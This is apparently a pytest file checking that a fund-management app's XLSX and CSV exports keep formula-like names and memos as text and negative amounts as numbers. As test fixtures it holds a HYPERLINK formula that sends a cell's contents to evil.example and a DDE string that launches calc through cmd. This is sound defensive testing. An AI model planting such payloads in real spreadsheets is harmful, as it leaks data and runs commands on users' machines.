"""Formula injection: text a user typed never becomes a live formula in an exported spreadsheet.

A name or memo beginning with ``=``, ``+``, ``-``, ``@``, a tab or a line break is written as
text by the one writer (``core.tabular``): in XLSX a string cell with Excel's quote prefix
(visible text unchanged), in CSV a quoted field prefixed with ``'``. Real numbers — negative
amounts included — stay numbers. Each reproduction goes through the real export endpoint.
"""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from test_evaluation_bulk_entry import hamlet  # noqa: F401 — the shared fixture
from test_evaluation_rollups import places  # noqa: F401 — the shared fixture

from edupact.core import tabular
from edupact.core.scoping import Scope
from edupact.funds import services
from edupact.funds.models import Fund

EVERYTHING = Scope(everything=True)
HYPERLINK = '=HYPERLINK("http://evil.example/?c="&C2,"Details")'
HOSTILE_MEMOS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-5", "\t=1+1", "\r=1+1"]


def _workbook(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return response.content


def _cells(content: bytes):
    """Every cell of the first sheet, after checking no sheet of the file holds a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(c.data_type != "f" for c in cells)
    return sheet, cells


def _csv(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return text, list(csv.reader(io.StringIO(text)))


@pytest.fixture
def fund(tree):
    """A rial fund of District 9's kanoon: the member Zahra deposits and withdraws with hostile
    memos; a second member is named with a formula."""
    from test_funds_reports import D

    f = services.create_fund(EVERYTHING, Fund(name="صندوق", kanoon=tree.kanoon, currency="IRR"))
    tree.other_member.given_name = ""
    tree.other_member.family_name = HYPERLINK
    tree.other_member.save()
    f.hostile = services.open_account(EVERYTHING, f, person=tree.other_member)
    f.zahra = services.open_account(EVERYTHING, f, person=tree.member)
    services.deposit(EVERYTHING, f.zahra, 1_000_000, D(2024, 1, 10), memo=HYPERLINK)
    for n, memo in enumerate(HOSTILE_MEMOS, start=1):
        services.withdraw(EVERYTHING, f.zahra, 10_000, D(2024, 2, n), memo=memo)
    services.deposit(EVERYTHING, f.hostile, 20_000, D(2024, 1, 11))
    return f


def test_a_name_that_is_a_formula_stays_text_in_the_secretariats_members_xlsx(
    fund, tree, client_as
):
    c = client_as(tree.users["secretariat"], "fa")
    content = _workbook(c.get(fund.get_absolute_url() + "?export=members&format=xlsx"))
    _, cells = _cells(content)
    [name] = [c for c in cells if c.value == HYPERLINK]
    assert name.data_type == "s" and name.quotePrefix
    balances = [c.value for c in cells if c.column == 2 and c.row > 1]
    assert sorted(balances) == [2_000, 95_000]  # toman for a Persian reader
    assert all(c.data_type == "n" for c in cells if c.column == 2 and c.row > 1)


def test_memos_that_are_formulas_stay_text_in_the_members_statement_and_negatives_stay_numbers(
    fund, tree, client_as
):
    member = client_as(tree.users["member"], "en")
    url = fund.zahra.get_absolute_url() + "?export=statement"
    sheet, cells = _cells(_workbook(member.get(url + "&format=xlsx")))
    rows = list(sheet.iter_rows(min_row=2))
    memos = [r[2] for r in rows]
    assert [m.value for m in memos] == [HYPERLINK, *[m.replace("\r", "\n") for m in HOSTILE_MEMOS]]
    assert all(m.data_type == "s" and m.quotePrefix for m in memos)
    amounts = [r[3] for r in rows]
    assert [a.value for a in amounts] == [1_000_000, *[-10_000] * len(HOSTILE_MEMOS)]
    assert all(a.data_type == "n" for a in amounts)

    text, table = _csv(member.get(url + "&format=csv"))
    assert [r[2] for r in table[1:]] == ["'" + m for m in (HYPERLINK, *HOSTILE_MEMOS)]
    assert [r[3] for r in table[1:]] == [
        "1000000",
        "-10000",
        "-10000",
        "-10000",
        "-10000",
        "-10000",
    ]
    assert ",-10000," in text  # a plain number, unquoted: spreadsheets read it as a number
    assert '"-5"' not in text and '"\'-5"' in text


def test_the_members_csv_neutralises_the_name_and_imports_back_as_typed(fund, tree, client_as):
    c = client_as(tree.users["kanoon_leader"], "fa")
    response = c.get(fund.get_absolute_url() + "?export=members&format=csv")
    _, table = _csv(response)
    assert "'" + HYPERLINK in [r[0] for r in table]
    rows = tabular.read_rows(response.content, "members.csv", {"name": [table[0][0]]})
    assert HYPERLINK in [r["name"] for r in rows]


def test_rotating_payments_export_keeps_reversals_negative_and_reasons_text(
    tree, client_as, api_client
):
    from test_rotating import make_fund

    from edupact.rotating import rules as rotating_rules
    from edupact.rotating import services as rotating

    f = make_fund(tree.kanoon, codes=2, due=2_000_000)
    code = f.codes.get(number=1)
    rotating.assign_code(EVERYTHING, code, [(tree.member, 12)])
    day = rotating_rules.start_date(f) + dt.timedelta(days=3)
    paid = rotating.record_due(EVERYTHING, code, 1, 2_000_000, day, memo="=1+1")
    rotating.reverse_due(EVERYTHING, paid, day, "-2+3")
    api = api_client(tree.users["kanoon_leader"])
    text, table = _csv(api.get(f"/api/v1/rotating/{f.pk}/export/payments?format=csv"))
    by_memo = {r[5]: r[4] for r in table[1:]}
    assert by_memo == {"'=1+1": "2000000", "'-2+3": "-2000000"}
    leader = client_as(tree.users["kanoon_leader"], "vi")
    _, cells = _cells(_workbook(leader.get(f"/rotating/{f.pk}/payments.xlsx")))
    assert {c.value for c in cells if c.column == 5 and c.row > 1} == {2_000_000, -2_000_000}


def test_workbooks_with_layout_are_swept_too():
    """A value written straight into a sheet's layout (not through ``append``) is still text."""
    book = tabular.Book()
    sheet = book.sheet("x")
    sheet.layout.cell(row=1, column=1, value="=1+1")
    sheet.layout.cell(row=1, column=2, value=-3)
    _, cells = _cells(book.to_bytes())
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("=1+1", "s", True),
        (-3, "n", False),
    ]


# The writer over arbitrary text --------------------------------------------------------------

LEADS = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "\n", "'", "''=", " ", "\x00", "٫"])
TEXTS = st.builds(lambda lead, rest: lead + rest, LEADS, st.text(max_size=30))
NUMBERS = st.one_of(
    st.integers(min_value=-(2**53), max_value=2**53),
    st.decimals(min_value=-(10**12), max_value=10**12, places=2),
)


def _as_xlsx_text(text: str) -> str:
    """What the XLSX cell holds: unwritable characters as U+FFFD, CR line breaks as LF."""
    cleaned = tabular._text(text)
    return cleaned.replace("\r\n", "\n").replace("\r", "\n")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(TEXTS, min_size=1, max_size=6), numbers=st.lists(NUMBERS, max_size=4))
def test_no_text_becomes_a_formula_and_numbers_stay_numbers(texts, numbers):
    row = [*texts, *numbers]
    headers = [f"h{i}" for i in range(len(row))]
    sheet, cells = _cells(tabular.to_xlsx(headers, [row]))
    written = [c for c in cells if c.row == 2]
    for text, cell in zip(texts, written, strict=False):
        expected = _as_xlsx_text(text)
        assert (cell.value or "") == expected
        if expected:
            assert cell.data_type == "s"
            assert bool(cell.quotePrefix) == tabular.formula_like(expected)
    for number, cell in zip(numbers, written[len(texts) :], strict=True):
        assert cell.data_type == "n" and Decimal(str(cell.value)) == number

    raw = tabular.to_csv(headers, [row]).decode("utf-8-sig")
    fields = list(csv.reader(io.StringIO(raw, newline="")))[1]
    for text, field in zip(texts, fields, strict=False):
        cleaned = tabular._text(text)
        assert field[:1] not in tabular.FORMULA_STARTS
        assert field == ("'" + cleaned if tabular.formula_like(cleaned) else cleaned)
        assert tabular._csv_unescape(field) == cleaned
    for number, field in zip(numbers, fields[len(texts) :], strict=True):
        assert Decimal(field) == number


def test_dates_and_times_stay_typed():
    day, moment = dt.date(2024, 3, 20), dt.datetime(2024, 3, 20, 8, 30, tzinfo=dt.UTC)
    _, cells = _cells(tabular.to_xlsx(["d", "t"], [[day, moment]]))
    assert [c.value for c in cells if c.row == 2] == [
        dt.datetime(2024, 3, 20),
        dt.datetime(2024, 3, 20, 8, 30),
    ]
    raw = tabular.to_csv(["d"], [[day, True, None]]).decode("utf-8-sig")
    assert raw.splitlines()[1] == '"2024-03-20","True",""'


# Evaluation workbooks go through the same writer ------------------------------------------------


def test_the_bulk_entry_template_and_the_framework_workbook_keep_formulas_as_text(hamlet):  # noqa: F811
    from edupact.evaluation import bulk, exchange
    from edupact.evaluation import services as evaluation

    p = hamlet
    p.hh[0].name = HYPERLINK
    p.hh[0].save()
    _, cells = _cells(bulk.template_xlsx(p.scope, 2024, p.a1, "household"))
    assert [c.quotePrefix for c in cells if c.value == HYPERLINK] == [True]

    framework = evaluation.create_framework(
        EVERYTHING,
        {
            "code": "T-INJ",
            "version": "1",
            "name": "=1+1",
            "model": "clan",
            "style": "levels",
            "levels": [1],
            "criteria": [
                {
                    "code": "TC1",
                    "name": "@SUM(A1)",
                    "indicators": [
                        {"code": "B1", "name": "-5", "kind": "boolean", "guidance": HYPERLINK}
                    ],
                }
            ],
        },
    )
    content = exchange.to_xlsx(framework)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if "worksheets" in n)
    assert exchange.from_xlsx(content) == exchange.to_data(framework)
